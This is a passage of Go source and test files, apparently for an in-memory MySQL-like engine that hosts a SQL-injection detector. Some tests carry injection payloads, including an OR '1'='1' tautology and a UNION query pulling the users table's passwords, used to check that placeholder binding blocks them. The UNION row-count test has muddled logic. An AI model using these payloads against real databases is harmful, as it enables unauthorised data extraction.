		`INSERT INTO users (name, pass, age, city, vip) VALUES
			('ann', 'pw1', 31, 'lisbon', TRUE),
			('bob', 'pw2', 42, 'porto', FALSE),
			('cal', 'pw3', 27, 'lisbon', FALSE),
			('dee', NULL, NULL, 'faro', TRUE)`,
		`INSERT INTO tickets (reservID, creditCard, uid) VALUES
			('ID34FG', 1234, 1), ('ZZ91AB', 5678, 2), ('QQ17CD', 1234, 1)`,
		`INSERT INTO logs (ts, msg) VALUES (10, 'boot'), (20, 'login'), (30, 'logout')`,
	}
	for _, q := range seed {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("seed %q: %v", q, err)
		}
	}
	return db
}

func mustExec(t *testing.T, db *DB, q string) *Result {
	t.Helper()
	res, err := db.Exec(q)
	if err != nil {
		t.Fatalf("Exec(%q): %v", q, err)
	}
	return res
}

func TestCreateInsertSelect(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT name, age FROM users WHERE city = 'lisbon' ORDER BY name")
	if len(res.Rows) != 2 {
		t.Fatalf("got %d rows, want 2", len(res.Rows))
	}
	if res.Rows[0][0].S != "ann" || res.Rows[1][0].S != "cal" {
		t.Errorf("rows = %v", res.Rows)
	}
	if res.Columns[0] != "name" || res.Columns[1] != "age" {
		t.Errorf("columns = %v", res.Columns)
	}
}

func TestSelectStar(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT * FROM users WHERE id = 1")
	if len(res.Rows) != 1 || len(res.Rows[0]) != 6 {
		t.Fatalf("rows = %v", res.Rows)
	}
	if res.Columns[1] != "name" {
		t.Errorf("columns = %v", res.Columns)
	}
}

func TestAutoIncrementAndLastInsertID(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "INSERT INTO users (name) VALUES ('eve')")
	if res.LastInsertID != 5 {
		t.Errorf("LastInsertID = %d, want 5", res.LastInsertID)
	}
	res = mustExec(t, db, "SELECT id FROM users WHERE name = 'eve'")
	if res.Rows[0][0].I != 5 {
		t.Errorf("id = %v", res.Rows[0][0])
	}
}

func TestAutoIncrementSkipsExplicitValues(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "INSERT INTO users (id, name) VALUES (100, 'explicit')")
	res := mustExec(t, db, "INSERT INTO users (name) VALUES ('after')")
	if res.LastInsertID != 101 {
		t.Errorf("LastInsertID = %d, want 101", res.LastInsertID)
	}
}

func TestInsertDefaultsAndNotNull(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "INSERT INTO users (name) VALUES ('nodetails')")
	res := mustExec(t, db, "SELECT vip, age FROM users WHERE name = 'nodetails'")
	if res.Rows[0][0].AsBool() {
		t.Errorf("vip default should be FALSE, got %v", res.Rows[0][0])
	}
	if !res.Rows[0][1].IsNull() {
		t.Errorf("age should default to NULL, got %v", res.Rows[0][1])
	}
	if _, err := db.Exec("INSERT INTO users (age) VALUES (5)"); err == nil {
		t.Error("INSERT without NOT NULL column must fail")
	}
}

func TestUniqueViolation(t *testing.T) {
	db := testDB(t)
	_, err := db.Exec("INSERT INTO users (id, name) VALUES (1, 'dup')")
	if !errors.Is(err, ErrDuplicate) {
		t.Errorf("err = %v, want ErrDuplicate", err)
	}
}

func TestWhereOperators(t *testing.T) {
	db := testDB(t)
	tests := []struct {
		q    string
		want int
	}{
		{"SELECT id FROM users WHERE age > 30", 2},
		{"SELECT id FROM users WHERE age >= 31", 2},
		{"SELECT id FROM users WHERE age < 30", 1},
		{"SELECT id FROM users WHERE age <> 31", 2},
		{"SELECT id FROM users WHERE age IS NULL", 1},
		{"SELECT id FROM users WHERE age IS NOT NULL", 3},
		{"SELECT id FROM users WHERE name LIKE 'a%'", 1},
		{"SELECT id FROM users WHERE name LIKE '%n%'", 1},
		{"SELECT id FROM users WHERE name LIKE '_ob'", 1},
		{"SELECT id FROM users WHERE age BETWEEN 27 AND 31", 2},
		{"SELECT id FROM users WHERE age NOT BETWEEN 27 AND 31", 1},
		{"SELECT id FROM users WHERE city IN ('lisbon', 'faro')", 3},
		{"SELECT id FROM users WHERE city NOT IN ('lisbon')", 2},
		{"SELECT id FROM users WHERE vip = TRUE AND city = 'lisbon'", 1},
		{"SELECT id FROM users WHERE vip = TRUE OR city = 'porto'", 3},
		{"SELECT id FROM users WHERE NOT vip = TRUE AND age IS NOT NULL", 2},
	}
	for _, tt := range tests {
		res := mustExec(t, db, tt.q)
		if len(res.Rows) != tt.want {
			t.Errorf("%q returned %d rows, want %d", tt.q, len(res.Rows), tt.want)
		}
	}
}

// TestMySQLWeakTyping covers the numeric-context coercions attackers rely
// on: strings compare numerically against numbers via numeric prefix.
func TestMySQLWeakTyping(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT id FROM tickets WHERE creditCard = '1234'")
	if len(res.Rows) != 2 {
		t.Errorf("string/int compare: %d rows, want 2", len(res.Rows))
	}
	res = mustExec(t, db, "SELECT id FROM tickets WHERE creditCard = '1234abc'")
	if len(res.Rows) != 2 {
		t.Errorf("numeric-prefix compare: %d rows, want 2", len(res.Rows))
	}
	// Tautology through weak typing: 1='1' is true.
	res = mustExec(t, db, "SELECT id FROM users WHERE 1 = '1'")
	if len(res.Rows) != 4 {
		t.Errorf("1='1' should be a tautology, got %d rows", len(res.Rows))
	}
}

func TestNullSemantics(t *testing.T) {
	db := testDB(t)
	// NULL never equals anything, including itself.
	res := mustExec(t, db, "SELECT id FROM users WHERE pass = NULL")
	if len(res.Rows) != 0 {
		t.Errorf("= NULL matched %d rows, want 0", len(res.Rows))
	}
	res = mustExec(t, db, "SELECT id FROM users WHERE NULL = NULL")
	if len(res.Rows) != 0 {
		t.Errorf("NULL = NULL matched %d rows, want 0", len(res.Rows))
	}
}

func TestOrderByDirections(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT name FROM users WHERE age IS NOT NULL ORDER BY age DESC")
	if res.Rows[0][0].S != "bob" || res.Rows[2][0].S != "cal" {
		t.Errorf("rows = %v", res.Rows)
	}
	// ORDER BY ordinal (the "ORDER BY 2" form).
	res = mustExec(t, db, "SELECT name, age FROM users WHERE age IS NOT NULL ORDER BY 2")
	if res.Rows[0][0].S != "cal" {
		t.Errorf("ordinal order rows = %v", res.Rows)
	}
	// NULLs sort first ascending.
	res = mustExec(t, db, "SELECT name FROM users ORDER BY age")
	if res.Rows[0][0].S != "dee" {
		t.Errorf("NULL should sort first: %v", res.Rows)
	}
}

func TestOrderByAlias(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT age * 2 AS doubled FROM users WHERE age IS NOT NULL ORDER BY doubled DESC")
	if res.Rows[0][0].I != 84 {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestLimitOffset(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT id FROM logs ORDER BY ts LIMIT 2")
	if len(res.Rows) != 2 || res.Rows[0][0].I != 1 {
		t.Errorf("rows = %v", res.Rows)
	}
	res = mustExec(t, db, "SELECT id FROM logs ORDER BY ts LIMIT 2 OFFSET 2")
	if len(res.Rows) != 1 || res.Rows[0][0].I != 3 {
		t.Errorf("rows = %v", res.Rows)
	}
	res = mustExec(t, db, "SELECT id FROM logs ORDER BY ts LIMIT 1, 2")
	if len(res.Rows) != 2 || res.Rows[0][0].I != 2 {
		t.Errorf("comma-limit rows = %v", res.Rows)
	}
}

func TestDistinct(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT DISTINCT city FROM users ORDER BY city")
	if len(res.Rows) != 3 {
		t.Errorf("got %d rows, want 3: %v", len(res.Rows), res.Rows)
	}
}

func TestJoins(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT u.name, t.reservID FROM users u
		JOIN tickets t ON u.id = t.uid ORDER BY t.reservID`)
	if len(res.Rows) != 3 {
		t.Fatalf("inner join rows = %v", res.Rows)
	}
	if res.Rows[0][0].S != "ann" {
		t.Errorf("rows = %v", res.Rows)
	}
	// LEFT JOIN null-extends users without tickets.
	res = mustExec(t, db, `SELECT u.name, t.id FROM users u
		LEFT JOIN tickets t ON u.id = t.uid WHERE t.id IS NULL ORDER BY u.name`)
	if len(res.Rows) != 2 {
		t.Fatalf("left join rows = %v", res.Rows)
	}
	if res.Rows[0][0].S != "cal" || res.Rows[1][0].S != "dee" {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestCrossJoinComma(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT COUNT(*) FROM users, logs")
	if res.Rows[0][0].I != 12 {
		t.Errorf("cross product = %v, want 12", res.Rows[0][0])
	}
}

func TestAggregates(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT COUNT(*), COUNT(age), SUM(age), AVG(age), MIN(age), MAX(age) FROM users")
	row := res.Rows[0]
	if row[0].I != 4 || row[1].I != 3 {
		t.Errorf("counts = %v", row)
	}
	if row[2].I != 100 {
		t.Errorf("sum = %v, want 100", row[2])
	}
	if row[4].AsInt() != 27 || row[5].AsInt() != 42 {
		t.Errorf("min/max = %v / %v", row[4], row[5])
	}
}

func TestGroupByHaving(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT city, COUNT(*) AS n FROM users
		GROUP BY city HAVING COUNT(*) > 1 ORDER BY city`)
	if len(res.Rows) != 1 || res.Rows[0][0].S != "lisbon" || res.Rows[0][1].I != 2 {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestGroupConcatAndDistinctAggregates(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT COUNT(DISTINCT creditCard) FROM tickets")
	if res.Rows[0][0].I != 2 {
		t.Errorf("distinct count = %v, want 2", res.Rows[0][0])
	}
	res = mustExec(t, db, "SELECT GROUP_CONCAT(name) FROM users WHERE city = 'lisbon'")
	if res.Rows[0][0].S != "ann,cal" {
		t.Errorf("group_concat = %v", res.Rows[0][0])
	}
}

func TestEmptyAggregate(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT COUNT(*), SUM(age) FROM users WHERE city = 'nowhere'")
	if res.Rows[0][0].I != 0 || !res.Rows[0][1].IsNull() {
		t.Errorf("empty aggregate = %v", res.Rows[0])
	}
}

func TestUnion(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT name FROM users WHERE vip = TRUE UNION SELECT name FROM users WHERE city = 'lisbon'")
	if len(res.Rows) != 3 {
		t.Errorf("union dedupe: %d rows, want 3 (%v)", len(res.Rows), res.Rows)
	}
	res = mustExec(t, db, "SELECT name FROM users WHERE vip = TRUE UNION ALL SELECT name FROM users WHERE city = 'lisbon'")
	if len(res.Rows) != 4 {
		t.Errorf("union all: %d rows, want 4", len(res.Rows))
	}
	if _, err := db.Exec("SELECT name, id FROM users UNION SELECT name FROM users"); err == nil {
		t.Error("mismatched union width must fail")
	}
}

// TestUnionExtractsOtherTable is the attack shape UNION injections use:
// pull another table's data through the original projection.
func TestUnionExtractsOtherTable(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT reservID FROM tickets WHERE id = 1 UNION SELECT pass FROM users")
	if len(res.Rows) != 4 { // 1 ticket + 3 non-null passes + dedupe of NULL... NULL kept too
		// rows: ID34FG, pw1, pw2, pw3, NULL -> 5 distinct
		if len(res.Rows) != 5 {
			t.Errorf("rows = %v", res.Rows)
		}
	}
}

func TestScalarSubquery(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT name FROM users WHERE age = (SELECT MAX(age) FROM users)")
	if len(res.Rows) != 1 || res.Rows[0][0].S != "bob" {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestInSubquery(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "SELECT reservID FROM tickets WHERE uid IN (SELECT id FROM users WHERE vip = TRUE) ORDER BY reservID")
	if len(res.Rows) != 2 {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestCorrelatedSubquery(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT name FROM users u WHERE EXISTS
		(SELECT 1 FROM tickets t WHERE t.uid = u.id) ORDER BY name`)
	if len(res.Rows) != 2 || res.Rows[0][0].S != "ann" || res.Rows[1][0].S != "bob" {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestDerivedTable(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, `SELECT n FROM (SELECT name AS n, age FROM users WHERE age > 26) AS adults ORDER BY n`)
	if len(res.Rows) != 3 {
		t.Errorf("rows = %v", res.Rows)
	}
}

func TestScalarFunctions(t *testing.T) {
	db := testDB(t)
	tests := []struct {
		q    string
		want string
	}{
		{"SELECT CONCAT('a', 'b', 1)", "ab1"},
		{"SELECT CONCAT_WS('-', 'a', NULL, 'b')", "a-b"},
		{"SELECT UPPER('abc')", "ABC"},
		{"SELECT LOWER('ABC')", "abc"},
		{"SELECT LENGTH('hello')", "5"},
		{"SELECT TRIM('  x  ')", "x"},
		{"SELECT REPLACE('aXa', 'X', 'b')", "aba"},
		{"SELECT SUBSTRING('hello', 2, 3)", "ell"},
		{"SELECT SUBSTRING('hello', 2)", "ello"},
		{"SELECT SUBSTRING('hello', -3)", "llo"},
		{"SELECT ABS(-4)", "4"},
		{"SELECT ROUND(2.567, 1)", "2.6"},
		{"SELECT FLOOR(2.9)", "2"},
		{"SELECT CEIL(2.1)", "3"},
		{"SELECT MOD(7, 3)", "1"},
		{"SELECT IF(1 > 2, 'yes', 'no')", "no"},
		{"SELECT IFNULL(NULL, 'fallback')", "fallback"},
		{"SELECT COALESCE(NULL, NULL, 3)", "3"},
		{"SELECT NULLIF(1, 1)", "NULL"},
		{"SELECT GREATEST(1, 9, 4)", "9"},
		{"SELECT LEAST(5, 2, 8)", "2"},
		{"SELECT MD5('abc')", "900150983cd24fb0d6963f7d28e17f72"},
		{"SELECT HEX('AB')", "4142"},
		{"SELECT NOW()", "2017-06-26 12:00:00"},
		{"SELECT CURDATE()", "2017-06-26"},
		{"SELECT VERSION()", "5.7.0-septic"},
	}
	for _, tt := range tests {
		res := mustExec(t, db, tt.q)
		if got := res.Rows[0][0].String(); got != tt.want {
			t.Errorf("%s = %q, want %q", tt.q, got, tt.want)
		}
	}
}

func TestArithmetic(t *testing.T) {
	db := testDB(t)
	tests := []struct {
		q    string
		want string
	}{
		{"SELECT 1 + 2", "3"},
		{"SELECT 7 - 10", "-3"},
		{"SELECT 3 * 4", "12"},
		{"SELECT 7 / 2", "3.5"},
		{"SELECT 7 % 3", "1"},
		{"SELECT 1 / 0", "NULL"},
		{"SELECT 1.5 + 1", "2.5"},
	}
	for _, tt := range tests {
		res := mustExec(t, db, tt.q)
		if got := res.Rows[0][0].String(); got != tt.want {
			t.Errorf("%s = %q, want %q", tt.q, got, tt.want)
		}
	}
}

func TestUpdate(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "UPDATE users SET age = age + 1 WHERE city = 'lisbon'")
	if res.Affected != 2 {
		t.Errorf("affected = %d, want 2", res.Affected)
	}
	check := mustExec(t, db, "SELECT age FROM users WHERE name = 'ann'")
	if check.Rows[0][0].I != 32 {
		t.Errorf("age = %v, want 32", check.Rows[0][0])
	}
}

func TestUpdateUnchangedNotCounted(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "UPDATE users SET city = 'lisbon' WHERE city = 'lisbon'")
	if res.Affected != 0 {
		t.Errorf("affected = %d, want 0 (values unchanged)", res.Affected)
	}
}

func TestUpdateWithLimitAndOrder(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "UPDATE logs SET msg = 'x' ORDER BY ts DESC LIMIT 1")
	if res.Affected != 1 {
		t.Fatalf("affected = %d, want 1", res.Affected)
	}
	check := mustExec(t, db, "SELECT msg FROM logs WHERE ts = 30")
	if check.Rows[0][0].S != "x" {
		t.Errorf("wrong row updated: %v", check.Rows)
	}
}

func TestDelete(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "DELETE FROM logs WHERE ts < 25")
	if res.Affected != 2 {
		t.Errorf("affected = %d, want 2", res.Affected)
	}
	check := mustExec(t, db, "SELECT COUNT(*) FROM logs")
	if check.Rows[0][0].I != 1 {
		t.Errorf("remaining = %v", check.Rows[0][0])
	}
}

func TestDropAndShowTables(t *testing.T) {
	db := testDB(t)
	mustExec(t, db, "DROP TABLE logs")
	res := mustExec(t, db, "SHOW TABLES")
	if len(res.Rows) != 2 {
		t.Errorf("tables = %v", res.Rows)
	}
	if _, err := db.Exec("SELECT * FROM logs"); !errors.Is(err, ErrNoSuchTable) {
		t.Errorf("err = %v, want ErrNoSuchTable", err)
	}
	mustExec(t, db, "DROP TABLE IF EXISTS logs")
}

func TestDescribe(t *testing.T) {
	db := testDB(t)
	res := mustExec(t, db, "DESCRIBE users")
	if len(res.Rows) != 6 {
		t.Fatalf("rows = %v", res.Rows)
	}
	if res.Rows[0][3].S != "PRI" || res.Rows[0][4].S != "auto_increment" {
		t.Errorf("id row = %v", res.Rows[0])
	}
}

func TestValidationErrors(t *testing.T) {
	db := testDB(t)
	cases := []struct {
		q    string
		want error
	}{
		{"SELECT * FROM missing", ErrNoSuchTable},
		{"INSERT INTO missing (a) VALUES (1)", ErrNoSuchTable},
		{"INSERT INTO users (nope) VALUES (1)", ErrNoSuchColumn},
		{"UPDATE missing SET a = 1", ErrNoSuchTable},
		{"UPDATE users SET nope = 1", ErrNoSuchColumn},
		{"DELETE FROM missing", ErrNoSuchTable},
		{"CREATE TABLE users (id INT)", ErrTableExists},
		{"DROP TABLE missing", ErrNoSuchTable},
	}
	for _, tt := range cases {
		if _, err := db.Exec(tt.q); !errors.Is(err, tt.want) {
			t.Errorf("%q: err = %v, want %v", tt.q, err, tt.want)
		}
	}
	if _, err := db.Exec("SELECT nope FROM users"); !errors.Is(err, ErrNoSuchColumn) {
		t.Errorf("unknown column in projection: %v", err)
	}
}

func TestInsertWrongArity(t *testing.T) {
	db := testDB(t)
	if _, err := db.Exec("INSERT INTO users (name, age) VALUES ('x')"); err == nil {
		t.Error("arity mismatch must fail")
	}
}

// blockingHook drops every query whose text the filter flags.
type blockingHook struct {
	mu      sync.Mutex
	calls   int
	blocked int
	filter  func(*HookContext) bool
}

func (h *blockingHook) BeforeExecute(ctx *HookContext) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.calls++
	if h.filter != nil && h.filter(ctx) {
		h.blocked++
		return fmt.Errorf("%w: test filter", ErrQueryBlocked)
	}
	return nil
}

func TestQueryHookObservesValidatedQueries(t *testing.T) {
	var got *HookContext
	hook := &blockingHook{}
	db := New(WithQueryHook(hook))
	mustExec(t, db, "CREATE TABLE t (id INT)")
	hook.filter = func(ctx *HookContext) bool {
		got = ctx
		return false
	}
	// The no-break space folds to a plain space inside the DBMS, so Raw
	// and Decoded differ while the statement stays valid. (A confusable
	// quote inside the literal would legitimately change the parse —
	// that IS the semantic mismatch, covered by the SEPTIC tests.)
	mustExec(t, db, "/* q7 */ SELECT * FROM t WHERE id = 1")
	if got == nil {
		t.Fatal("hook not called")
	}
	if got.Raw == got.Decoded {
		t.Error("decoded text should differ for confusable input")
	}
	if len(got.Comments) != 1 || got.Comments[0] != "q7" {
		t.Errorf("comments = %v", got.Comments)
	}
	if got.Stmt == nil {
		t.Error("statement missing")
	}
}

func TestQueryHookBlocks(t *testing.T) {
	hook := &blockingHook{filter: func(ctx *HookContext) bool { return true }}
	db := New(WithQueryHook(hook))
	// CREATE passes through the hook too; install filter after setup.
	hook.filter = nil
	mustExec(t, db, "CREATE TABLE t (id INT)")
	mustExec(t, db, "INSERT INTO t (id) VALUES (1)")
	hook.filter = func(ctx *HookContext) bool { return true }
	_, err := db.Exec("SELECT * FROM t")
	if !errors.Is(err, ErrQueryBlocked) {
		t.Fatalf("err = %v, want ErrQueryBlocked", err)
	}
	stats := db.Stats()
	if stats.Blocked != 1 {
		t.Errorf("stats = %+v, want Blocked=1", stats)
	}
	// The data was not touched.
	hook.filter = nil
	res := mustExec(t, db, "SELECT COUNT(*) FROM t")
	if res.Rows[0][0].I != 1 {
		t.Errorf("table corrupted: %v", res.Rows)
	}
}

func TestHookNotCalledOnParseError(t *testing.T) {
	hook := &blockingHook{}
	db := New(WithQueryHook(hook))
	_, _ = db.Exec("NOT SQL AT ALL")
	if hook.calls != 0 {
		t.Errorf("hook called %d times on parse error, want 0", hook.calls)
	}
}

func TestExecArgsBindsPlaceholders(t *testing.T) {
	db := testDB(t)
	res, err := db.ExecArgs("SELECT name FROM users WHERE city = ? AND age > ?",
		Str("lisbon"), Int(30))
	if err != nil {
		t.Fatalf("ExecArgs: %v", err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0].S != "ann" {
		t.Errorf("rows = %v", res.Rows)
	}
}

// TestExecArgsIsInjectionProof: binding a hostile value through a
// placeholder never alters the query structure.
func TestExecArgsIsInjectionProof(t *testing.T) {
	db := testDB(t)
	res, err := db.ExecArgs("SELECT name FROM users WHERE city = ?",
		Str("lisbon' OR '1'='1"))
	if err != nil {
		t.Fatalf("ExecArgs: %v", err)
	}
	if len(res.Rows) != 0 {
		t.Errorf("injection through placeholder returned %d rows, want 0", len(res.Rows))
	}
}

func TestExecArgsArityErrors(t *testing.T) {
	db := testDB(t)
	if _, err := db.ExecArgs("SELECT ? FROM users"); err == nil {
		t.Error("missing arg must fail")
	}
	if _, err := db.ExecArgs("SELECT 1 FROM users", Int(1)); err == nil {
		t.Error("extra arg must fail")
	}
	if _, err := db.Exec("SELECT name FROM users WHERE city = ?"); err == nil {
		t.Error("unbound placeholder must fail at evaluation")
	}
}

func TestConcurrentAccess(t *testing.T) {
	db := testDB(t)
	var wg sync.WaitGroup
	errs := make(chan error, 64)
	for i := 0; i < 8; i++ {
		wg.Add(2)
		go func(n int) {
			defer wg.Done()
			for j := 0; j < 20; j++ {
				q := fmt.Sprintf("INSERT INTO logs (ts, msg) VALUES (%d, 'w%d')", 100+n*100+j, n)
				if _, err := db.Exec(q); err != nil {
					errs <- err
					return
				}
			}
		}(i)
		go func() {
			defer wg.Done()
			for j := 0; j < 20; j++ {
				if _, err := db.Exec("SELECT COUNT(*) FROM logs WHERE ts > 0"); err != nil {
					errs <- err
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Errorf("concurrent access error: %v", err)
	}
	res := mustExec(t, db, "SELECT COUNT(*) FROM logs")
	if res.Rows[0][0].I != 3+8*20 {
		t.Errorf("row count = %v, want %d", res.Rows[0][0], 3+8*20)
	}
}

func TestStatsCounters(t *testing.T) {
	db := testDB(t)
	before := db.Stats()
	mustExec(t, db, "SELECT 1")
	_, _ = db.Exec("BROKEN")
	after := db.Stats()
	if after.Executed != before.Executed+1 {
		t.Errorf("Executed = %d, want %d", after.Executed, before.Executed+1)
	}
	if after.Failed != before.Failed+1 {
		t.Errorf("Failed = %d, want %d", after.Failed, before.Failed+1)
	}
}
