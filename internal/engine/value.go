// Package engine implements the in-memory relational DBMS that hosts
// SEPTIC. It plays the role MySQL plays in the paper: it receives query
// text, decodes and parses it (internal/sqlparser), validates it against
// the catalog, invokes the registered QueryHook — the point where SEPTIC
// is installed, "right before the execution step, after all potential
// modifications have been applied to the queries" (§II-A) — and then
// executes it.
//
// The engine supports the SQL surface the paper's web applications need:
// SELECT with joins, subqueries, UNION, GROUP BY/HAVING/ORDER BY/LIMIT,
// aggregate and scalar functions, INSERT (including INSERT..SELECT),
// UPDATE, DELETE, CREATE/DROP TABLE, SHOW TABLES and DESCRIBE, with
// MySQL-style weak typing in comparisons.
package engine

import (
	"fmt"
	"strconv"
	"strings"
)

// Kind is the runtime type of a Value.
type Kind int

// Value kinds. Enums start at 1 so the zero value is invalid; the zero
// Value is still usable because IsNull treats KindInvalid as an error
// sentinel rather than data.
const (
	KindInvalid Kind = iota
	KindNull
	KindInt
	KindFloat
	KindString
	KindBool
)

// String names the kind for error messages.
func (k Kind) String() string {
	switch k {
	case KindNull:
		return "NULL"
	case KindInt:
		return "INT"
	case KindFloat:
		return "FLOAT"
	case KindString:
		return "STRING"
	case KindBool:
		return "BOOL"
	default:
		return fmt.Sprintf("Kind(%d)", int(k))
	}
}

// Value is a single cell value. It is a small tagged union; only the
// field matching Kind is meaningful.
type Value struct {
	Kind Kind
	I    int64
	F    float64
	S    string
	B    bool
}

// Constructors.

// Null returns the SQL NULL value.
func Null() Value { return Value{Kind: KindNull} }

// Int returns an integer value.
func Int(i int64) Value { return Value{Kind: KindInt, I: i} }

// Float returns a floating-point value.
func Float(f float64) Value { return Value{Kind: KindFloat, F: f} }

// Str returns a string value.
func Str(s string) Value { return Value{Kind: KindString, S: s} }

// Bool returns a boolean value.
func Bool(b bool) Value { return Value{Kind: KindBool, B: b} }

// IsNull reports whether the value is SQL NULL.
func (v Value) IsNull() bool { return v.Kind == KindNull }

// String renders the value the way the mysql client would.
func (v Value) String() string {
	switch v.Kind {
	case KindNull:
		return "NULL"
	case KindInt:
		return strconv.FormatInt(v.I, 10)
	case KindFloat:
		return strconv.FormatFloat(v.F, 'g', -1, 64)
	case KindString:
		return v.S
	case KindBool:
		if v.B {
			return "1"
		}
		return "0"
	default:
		return "<invalid>"
	}
}

// AsFloat coerces the value to a float the way MySQL does in numeric
// context: strings convert via their longest numeric prefix (so 'abc' is
// 0 and '1x' is 1 — the behaviour behind several classic injection
// tricks), booleans are 0/1, NULL is 0.
func (v Value) AsFloat() float64 {
	switch v.Kind {
	case KindInt:
		return float64(v.I)
	case KindFloat:
		return v.F
	case KindBool:
		if v.B {
			return 1
		}
		return 0
	case KindString:
		return numericPrefix(v.S)
	default:
		return 0
	}
}

// AsInt coerces to integer via AsFloat, truncating.
func (v Value) AsInt() int64 {
	if v.Kind == KindInt {
		return v.I
	}
	return int64(v.AsFloat())
}

// AsBool coerces to boolean: nonzero numbers and numeric-prefix strings
// are true, following MySQL's truthiness.
func (v Value) AsBool() bool {
	switch v.Kind {
	case KindBool:
		return v.B
	case KindNull:
		return false
	default:
		return v.AsFloat() != 0
	}
}

// numericPrefix parses the longest numeric prefix of s, MySQL-style.
func numericPrefix(s string) float64 {
	s = strings.TrimLeft(s, " \t")
	end := 0
	sawDigit, sawDot, sawExp := false, false, false
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= '0' && c <= '9':
			sawDigit = true
			end = i + 1
		case (c == '+' || c == '-') && i == 0:
			end = i + 1
		case c == '.' && !sawDot && !sawExp:
			sawDot = true
			end = i + 1
		case (c == 'e' || c == 'E') && sawDigit && !sawExp:
			sawExp = true
			end = i + 1
		case (c == '+' || c == '-') && i > 0 && (s[i-1] == 'e' || s[i-1] == 'E'):
			end = i + 1
		default:
			goto done
		}
	}
done:
	if !sawDigit {
		return 0
	}
	f, err := strconv.ParseFloat(strings.TrimRight(s[:end], "eE+-"), 64)
	if err != nil {
		return 0
	}
	return f
}

// Compare orders two values MySQL-style and reports -1, 0 or +1. When
// either side is NULL the second return value is false (the comparison
// result is NULL). Two strings compare as strings; mixed types compare
// numerically — which is why "creditCard = '1234abc'" can match 1234.
func Compare(a, b Value) (int, bool) {
	if a.IsNull() || b.IsNull() {
		return 0, false
	}
	if a.Kind == KindString && b.Kind == KindString {
		return strings.Compare(a.S, b.S), true
	}
	af, bf := a.AsFloat(), b.AsFloat()
	switch {
	case af < bf:
		return -1, true
	case af > bf:
		return 1, true
	default:
		return 0, true
	}
}

// Equal reports value equality under Compare semantics (NULL != NULL).
func Equal(a, b Value) bool {
	c, ok := Compare(a, b)
	return ok && c == 0
}
