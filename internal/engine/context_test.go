package engine

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/faultinject"
)

func TestExecContextCanceledBeforeStart(t *testing.T) {
	db := New()
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	before := db.Stats()
	_, err := db.ExecContext(ctx, "SELECT id FROM t")
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if got := db.Stats(); got.Failed != before.Failed+1 || got.Executed != before.Executed {
		t.Errorf("stats after cancel = %+v (before %+v): want one more failed, no executed", got, before)
	}
}

func TestExecContextDeadlineBetweenStages(t *testing.T) {
	db := New()
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	// Inject latency at the execute stage boundary: the deadline expires
	// while the pipeline is "inside" a slow stage, and the next stage
	// check must catch it.
	faultinject.Arm(func(site string) {
		if site == faultinject.SiteEngineExecute {
			time.Sleep(40 * time.Millisecond)
		}
	})
	defer faultinject.Disarm()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Millisecond)
	defer cancel()
	_, err := db.ExecContext(ctx, "SELECT id FROM t")
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("err = %v, want context.DeadlineExceeded", err)
	}
}

func TestExecArgsContextHonorsCancellation(t *testing.T) {
	db := New()
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := db.ExecArgsContext(ctx, "SELECT id FROM t WHERE id = ?", Int(1)); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	// The live context path still works.
	if _, err := db.ExecArgsContext(context.Background(), "SELECT id FROM t WHERE id = ?", Int(1)); err != nil {
		t.Fatalf("live context: %v", err)
	}
}
