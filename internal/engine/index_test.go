package engine

import (
	"errors"
	"fmt"
	"testing"
)

func TestPointLookupMatchesScan(t *testing.T) {
	db := testDB(t)
	// Indexed (id is PRIMARY KEY) vs scanned (name is not unique): the
	// same logical query must agree.
	byID := mustExec(t, db, "SELECT name FROM users WHERE id = 2")
